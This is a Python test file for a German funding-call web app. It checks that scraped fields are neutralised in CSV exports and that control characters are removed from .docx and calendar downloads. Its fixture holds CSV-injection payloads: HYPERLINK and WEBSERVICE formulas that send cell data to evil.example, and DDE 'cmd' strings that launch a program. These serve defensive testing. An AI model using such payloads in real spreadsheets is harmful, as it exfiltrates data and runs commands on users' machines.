"""Scraped text in the downloads: the CSV list, the .docx Begründung and the calendar feed.

tests/web/test_workflow.py checks that one formula-like title stays text in the CSV and
test_web_security.py that line breaks cannot add events to the feed. Here: every formula
trigger in every text column, numbers that must stay numbers, and control characters
(from PDF or Word sources) that must neither break a download nor reach a calendar.
"""

from __future__ import annotations

import csv
import io
import re
from datetime import timedelta
from typing import Any

import pytest
from docx import Document
from flask.testing import FlaskClient
from sqlalchemy import Engine, select

from scrapers.record import CallRecord
from tests.conftest import CliInvoker
from webapp.db import make_session_factory, transaction
from webapp.formatting import local_today
from webapp.ingest import ingest_records
from webapp.models import Call, Review, User

# Any: mypy would check `**FORMULAS` against every field of CallRecord, not only these.
FORMULAS: dict[str, Any] = {
    "title": '=HYPERLINK("https://evil.example/?"&A1;"Förderaufruf")',
    "funder": "+cmd|' /C calc'!A0",
    "programme": "-2+3+cmd|' /C calc'!A0",
    "region": "@SUM(1+1)*cmd|' /C calc'!A0",
    "funding_type": "\t=1+1",
    "url": '=WEBSERVICE("https://evil.example/"&A2)',
}
# Control characters as PDF text extraction and Word leave them (vertical tab, form feed, SOH).
CONTROL_TITLE = "Digitalisierung\x0bder Verwaltung\x01 für Kommunen\x0c"
CONTROL_TEXT = (
    "Antragsberechtigt sind Kommunen und Landkreise.\x0c Gefördert wird die Digitalisierung "
    "der Verwaltung,\x0b Onlinedienste\x01 und Glasfaser für Schulen. Ziel ist die "
    "Digitalisierung\x0b der Verwaltung und ein digitaler Onlinezugang.\x01"
)


def _ingest(engine: Engine, records: list[CallRecord]) -> None:
    with transaction(make_session_factory(engine)) as session:
        ingest_records(session, records, origin="scrape")


def _rows(client: FlaskClient) -> list[dict[str, str]]:
    response = client.get("/export.csv?scope=all&alle=1&status=alle")
    assert response.status_code == 200
    text = response.get_data().decode("utf-8-sig")
    return list(csv.DictReader(io.StringIO(text), delimiter=";"))


def test_no_scraped_cell_starts_a_formula_and_numbers_stay_numbers(
    auth_client: FlaskClient, engine: Engine
) -> None:
    today = local_today()
    _ingest(
        engine,
        [
            CallRecord("feed", "formel", deadline=today + timedelta(days=20), **FORMULAS),
            CallRecord(
                "feed",
                "vorbei",
                "https://e.org/vorbei",
                "Abgelaufener Aufruf",
                deadline=today - timedelta(days=26),
            ),
        ],
    )
    rows = {row["Titel"].lstrip("'"): row for row in _rows(auth_client)}
    formula = rows[FORMULAS["title"]]
    for column in ("Titel", "Fördergeber", "Programm", "Region", "Förderart", "Link"):
        cell = formula[column]
        # Excel and LibreOffice read a cell starting with one of these as a formula.
        assert cell[:1] not in ("=", "+", "-", "@", "\t", "\r"), (column, cell)
        assert cell.startswith("'"), (column, cell)  # shown as the text the source sent
    # A missed deadline counts as a negative number, not as the text "'-26".
    missed = rows["Abgelaufener Aufruf"]
    assert missed["Tage bis Frist"] == "-26"


@pytest.fixture
def control_call(cli: CliInvoker, engine: Engine, user: User) -> int:
    """A matched call whose title and text carry control characters, marked relevant."""
    assert cli("init").exit_code == 0
    record = CallRecord(
        "feed",
        "steuerzeichen",
        "https://e.org/steuerzeichen",
        CONTROL_TITLE,
        summary="Digitale Verwaltung, Onlinezugang, Breitband für Kommunen.\x0b",
        text=CONTROL_TEXT,
        eligible=["Kommune", "Landkreis"],
        region="NRW",
        deadline=local_today() + timedelta(days=30),
        topics=["Digitalisierung"],
    )
    _ingest(engine, [record])
    assert cli("match").exit_code == 0
    with transaction(make_session_factory(engine)) as session:
        call_id = session.scalar(select(Call.id).where(Call.external_id == "steuerzeichen"))
        assert call_id is not None
        session.add(Review(call_id=call_id, status="relevant"))
    return call_id


def test_docx_download_of_a_call_with_control_characters(
    auth_client: FlaskClient, control_call: int
) -> None:
    page = auth_client.get(f"/aufrufe/{control_call}").get_data(as_text=True)
    links = sorted(set(re.findall(r'href="([^"]*/download\.docx[^"]*)"', page)))
    assert links, "no .docx download on the call page"
    for link in links:
        response = auth_client.get(link.replace("&amp;", "&"))
        # Was "Interner Fehler" (500): python-docx refuses control characters.
        assert response.status_code == 200, link
        document = Document(io.BytesIO(response.get_data()))
        assert "Digitalisierung der Verwaltung" in document.core_properties.title
        body = "\n".join(p.text for p in document.paragraphs)
        assert body and not re.search(r"[\x00-\x08\x0b\x0c\x0e-\x1f]", body)


def test_calendar_feed_carries_no_control_characters(
    client: FlaskClient, control_call: int, user: User
) -> None:
    response = client.get(f"/kalender/{user.ical_token}.ics")
    assert response.status_code == 200
    body = response.get_data(as_text=True)
    # RFC 5545 allows no control characters but tab in text; CR LF end the lines only.
    assert not re.search(r"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f]", body), body
    unfolded = body.replace("\r\n ", "")
    summary = next(line for line in unfolded.split("\r\n") if line.startswith("SUMMARY:"))
    assert "Digitalisierung der Verwaltung" in summary
